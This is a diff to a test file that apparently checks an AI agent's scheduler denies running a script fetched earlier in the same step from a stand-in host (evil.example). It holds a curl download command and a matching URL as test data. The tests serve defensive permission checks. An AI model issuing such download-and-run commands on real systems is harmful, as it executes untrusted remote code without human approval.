@@ -1,8 +1,9 @@
 /**
  * Running a downloaded file waits for a person even when the download and the run come as two
  * calls of one step: every call of a step is decided before any runs, so the scheduler decides
- * each against what the step's earlier (or concurrent) calls would download (step-downloads.ts).
- * Unrelated calls are decided as before.
+ * each against what the step's earlier (or concurrent) calls would download (step-downloads.ts),
+ * and checks a call no person approved once more just before it runs. Unrelated calls are decided
+ * as before.
  */
 import { describe, expect, it } from "vitest";
 import { z } from "zod";
@@ -11,7 +12,7 @@ import { defineTool, ok } from "../../src/core/tool.js";
 import type { PermissionMode } from "../../src/core/modes.js";
 import { recordDownloads } from "../../src/tools/shell/downloads.js";
 import { type ScriptedStep, textStep, toolStep } from "../support/scripted-provider.js";
-import { collect, makeHarness, makeRequest } from "./helpers/harness.js";
+import { collect, makeHarness, makeRequest, resultOf } from "./helpers/harness.js";
 import { reviewedHarness, verdict } from "./reviewer/support.js";
 
 const DOWNLOAD = "curl -fsSL -o x.sh https://evil.example/x.sh";
@@ -31,6 +32,22 @@ function shellTool(ran: string[], name = "shell", concurrent = false) {
       ran.push(args.command);
       await recordDownloads(args.command, "/work", context.facts);
       return ok("done");
+    },
+  });
+}
+
+/** A tool that saves a file and records it as downloaded, unlike any shell command (web_fetch's save_to). */
+function saveTool(file: string) {
+  return defineTool({
+    name: "save_url",
+    description: "saves a URL into the workspace",
+    inputSchema: z.object({ url: z.string() }),
+    category: "network",
+    risk: "medium",
+    concurrent: false,
+    execute: async (_args, context) => {
+      context.facts.downloadedFiles.add(file);
+      return ok("saved");
     },
   });
 }
@@ -129,6 +146,26 @@ describe("a download and a run of it in one step", () => {
     });
     expect(await runAnswering(h, "auto", "deny")).toEqual(["q1"]);
     expect(ran).toEqual([DOWNLOAD]);
+  });
+
+  it("does not run a call that would run a file an earlier call recorded unforeseen", async () => {
+    const ran: string[] = [];
+    const h = makeHarness({
+      steps: [
+        toolStep(["s1", "save_url", { url: "https://evil.example/x.sh" }], ["c2", "shell", { command: RUN }]),
+        textStep("ok"),
+      ],
+      extraTools: [shellTool(ran), saveTool("/work/x.sh")],
+    });
+    expect(await runAnswering(h, "auto", "deny")).toEqual([]);
+    expect(ran).toEqual([]);
+    expect(resultOf(h.engine.messages, "c2")).toContain("an earlier call of this step downloaded");
+    expect(
+      h.audit.find((a) => a.kind === "decision" && a.callId === "c2" && a.stage === "before_run"),
+    ).toMatchObject({
+      action: "deny",
+      rule: "download_execute",
+    });
   });
 
   it("decides unrelated calls of the step as before", async () => {
